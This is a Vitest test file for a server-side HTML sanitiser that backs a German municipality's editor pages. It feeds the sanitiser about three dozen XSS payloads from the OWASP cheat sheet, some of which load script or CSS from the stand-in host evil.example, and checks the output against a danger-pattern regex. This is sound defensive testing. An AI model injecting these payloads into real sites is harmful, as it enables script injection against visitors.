import createDOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitize-html.ts';

// The browser's sanitiser, as the editors' previews run it (components/sanitized-html.tsx): what the
// server stores must already be what it keeps, which is why residents' pages show stored HTML as is.
const { window } = new JSDOM('');
const browserPurify = createDOMPurify(window);
const browserSanitize = (html: string) => browserPurify.sanitize(html, { USE_PROFILES: { html: true } });
/** The markup as a browser's DOM serialises it (`<br>` for `<br />`, tables with their tbody). */
const domSerialised = (html: string) => {
  const body = window.document.createElement('body');
  body.innerHTML = html;
  return body.innerHTML;
};

/** Vectors from the OWASP XSS filter evasion cheat sheet and DOMPurify's own test corpus. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<details open ontoggle=alert(1)>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p>Hallo<!--<img src=x onerror=alert(1)>--></p>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<table><td background="javascript:alert(1)">x</td></table>',
  '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
  '<<script>alert(1);//<</script>',
  '<img """><script>alert(1)</script>">',
  '<div><template><script>alert(1)</script></template></div>',
  '<select><option><iframe></select><img src=x onerror=alert(1)>',
];

const DANGER =
  /<(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|template|noscript|body|details)\b|\son\w+\s*=|javascript:|vbscript:|data:/i;

describe('sanitizeHtml (editor HTML on write)', () => {
  it.each(ATTACKS)('removes everything executable from %s', (attack) => {
    const cleaned = sanitizeHtml(attack);
    expect(cleaned).not.toMatch(DANGER);
    // What the server stores is already what the browser's DOMPurify keeps: a parser difference between
    // the two cannot turn stored text into markup on a resident's page.
    expect(browserSanitize(cleaned)).toBe(domSerialised(cleaned));
  });

  it('keeps what the editors produce, with German text, unchanged', () => {
    const source =
      '<h2>Abstandsflächen</h2><p>Ein <strong>Bauantrag</strong> für „Größe“ – <em>3 m</em> <u>Grenze</u>' +
      '<br /><a href="https://www.gesetze-bayern.de/Content/Document/BayBO-57" rel="noopener">Art. 57 BayBO</a>' +
      ' oder <a href="mailto:bauamt@lindenau.example">E-Mail</a>, <a href="tel:+49891234">Telefon</a></p>' +
      '<ol><li>Eins</li><li>Zwei</li></ol><ul><li>ß</li></ul><p>Neu<img src="https://lindenau.example/plan.png" alt="Plan" /></p>';
    expect(sanitizeHtml(source)).toBe(source);
    expect(browserSanitize(source)).toBe(domSerialised(source));
  });

  it('drops unknown tags but keeps their text, and drops script and style with their content', () => {
    expect(sanitizeHtml('<p onclick="steal()">Hallo <script>alert(1)</script><strong>Welt</strong></p>')).toBe(
      '<p>Hallo <strong>Welt</strong></p>',
    );
    expect(sanitizeHtml('<div><marquee>Text</marquee><style>p{}</style></div>')).toBe('Text');
  });
});
